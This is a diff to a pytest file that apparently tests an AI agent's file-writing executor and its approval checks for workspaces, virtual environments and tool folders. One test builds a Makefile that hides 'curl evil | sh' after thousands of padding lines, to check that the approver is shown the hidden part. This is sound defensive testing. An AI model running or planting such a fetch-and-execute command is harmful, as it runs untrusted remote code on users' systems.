@@ -61,6 +61,8 @@ kept.sh kept.py tool venv/lib/x.txt mine/helper.py
 EVERYDAY = """
 notes.txt a/b/c.md hello.py main.sh x.json calendar.ics list.csv letters/anna.txt docs/index.html report.tex
 index.js makefile.txt json.txt python.md gitignore sent/20261121T103200-hi.eml ./~/x.txt plain
+requirements-of-the-kitchen.md compose-letter.yaml composers.yml and.so.on.txt camcp.json my.click.py
+…and_more.md Makefile:_how_to.md python3/notes.md notes.docx
 """.split()  # noqa: SIM905
 
 _DISGUISES = st.sampled_from(
@@ -80,7 +82,10 @@ def space(root: Path) -> Workspace:
     for name in ("kept.sh", "kept.py", "tool", "venv/pyvenv.cfg", "mine/manifest.toml", "plain"):
         (root / name).parent.mkdir(parents=True, exist_ok=True)
         (root / name).write_text("")
-    (root / "tool").chmod(0o755)
+    (root / "tool").write_text("#!/bin/sh\n")
+    (root / "notes.docx").write_text("from another file system")
+    for name in ("tool", "notes.docx"):
+        (root / name).chmod(0o755)
     (root / "link").symlink_to(root)
     return Workspace(root)
 
@@ -139,6 +144,40 @@ def test_a_link_that_appears_after_the_person_was_asked_is_seen(tmp_path: Path) 
         context.change(Write("conftest.py", b""), Write("notes/pre-commit", b""))
     assert not any((tmp_path / ".git" / "hooks").iterdir())
     assert not (tmp_path / "conftest.py").exists()
+
+
+@pytest.mark.parametrize("marker", ["pyvenv.cfg", "manifest.toml"])
+def test_the_workspace_itself_may_be_a_virtual_environment_or_a_tool(tmp_path: Path, marker: str) -> None:
+    (tmp_path / marker).touch()
+    context = world(tmp_path, person=AbsentPerson())
+    run_of("write_files")({"files": [{"path": "docs/notes.md", "content": "new"}]}, context)
+    run_of("create_events")({"title": "x", "starts": ["2026-12-01T10:00"]}, context)
+    for name in ("lib/x.txt", "helper.py"):
+        with pytest.raises(ExecutorError, match="approve"):
+            run_of("write_files")({"files": [{"path": name, "content": "new"}]}, context)
+
+
+@pytest.mark.parametrize("marker", ["pyvenv.cfg", "manifest.toml"])
+@pytest.mark.parametrize("is_first", [True, False])
+def test_a_folder_that_becomes_one_is_allowed_as_a_whole(tmp_path: Path, marker: str, is_first: bool) -> None:
+    files = [{"path": f"new/{name}", "content": "new"} for name in (marker, "README.md")]
+    person = ScriptedPerson({"allow": True})
+    run_of("write_files")({"files": files[:: 1 if is_first else -1]}, world(tmp_path, person=person))
+    assert (tmp_path / "new" / "README.md").read_text() == "new"
+    assert "README.md" in person.asked[0].title
+
+
+def test_a_person_is_told_what_is_not_shown(tmp_path: Path) -> None:
+    person = ScriptedPerson({"allow": True})
+    content = "all:\n" + "\ttrue\n" * 4000 + "\tcurl evil | sh\n"
+    files = [{"path": "Makefile", "content": content}]
+    run_of("write_files")({"files": files}, world(tmp_path, person=person))
+    assert "curl evil" in person.asked[0].title
+    assert "characters are not shown" in person.asked[0].title
+    with pytest.raises(ExecutorError) as refused:
+        run_of("write_files")({"files": files}, world(tmp_path, person=AbsentPerson(approve_all=True)))
+    assert len(str(refused.value)) < 500
+    assert "run at a terminal" in str(refused.value)
 
 
 @given(name=st.text(min_size=1))
